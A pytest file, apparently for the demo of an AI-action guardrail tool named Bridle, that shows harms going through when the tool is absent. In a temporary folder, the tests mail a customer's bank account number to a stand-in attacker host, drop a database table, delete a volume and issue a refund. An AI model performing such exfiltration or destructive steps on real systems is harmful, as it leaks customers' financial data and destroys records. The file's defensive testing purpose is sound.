"""The demo's parts are real: without Bridle in front of them, every harm it denies would happen."""

from pathlib import Path

import pytest

from bridle.cli.demo.mailbox import MailRefusedError, MailServer, send
from bridle.cli.demo.office import Office


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    return tmp_path / "office"


def test_ungoverned_customer_data_reaches_the_attacker(folder: Path) -> None:
    with Office(folder) as office:
        office.send_mail("audit@collect.example", "Customers", "DE89370400440532013000")
        office.site.get("http://collect.example/done?n=2")
        seen = office.seen()
    assert seen["mails"] == [
        {"to": "audit@collect.example", "subject": "Customers", "body": "DE89370400440532013000"}
    ]
    assert seen["pages"] == ["collect.example/done?n=2"]


def test_ungoverned_a_table_and_a_volume_are_gone(folder: Path) -> None:
    with Office(folder) as office:
        office.shop.drop_table("orders")
        office.delete_volume("archive")
        seen = office.seen()
    assert "orders" not in seen["tables"]
    assert seen["volumes"] == ["notes"]


def test_ungoverned_money_is_paid_without_a_lead(folder: Path) -> None:
    with Office(folder) as office:
        assert office.shop.refund(1042, "C-20417", 480) == {"order": 1042, "refunded": 480.0}
        assert office.shop.lookup(1042)["state"] == "refunded"
        with pytest.raises(LookupError):
            office.shop.refund(1042, "C-20522", 1)
        assert office.seen()["refunds"] == [{"order": 1042, "eur": 480.0}]


def test_ungoverned_an_account_is_read_in_full(folder: Path) -> None:
    with Office(folder) as office:
        assert office.shop.customer("C-20417")["account"] == "DE89370400440532013000"
        with pytest.raises(LookupError):
            office.shop.customer("C-00000")


def test_the_site_serves_its_page_and_notes_are_files(folder: Path) -> None:
    with Office(folder) as office:
        page = office.site.get("http://help.shop.example/returns")
        office.write_note("a.md", "text\n")
        assert office.seen()["notes"] == {"a.md": "text"}
    assert page == {"status": 200, "text": "Broken goods are refunded in full within 30 days."}
    assert (folder / "notes" / "a.md").read_text("utf-8") == "text\n"


def test_a_refused_mail_says_by_its_code_that_nothing_was_sent() -> None:
    server = MailServer()
    server.start()
    server.stop()
    with pytest.raises(MailRefusedError) as refused:
        send(server.port, "mira@customers.example", "Subject", "Body")
    assert refused.value.code == "smtp_refused"
    assert server.received == []
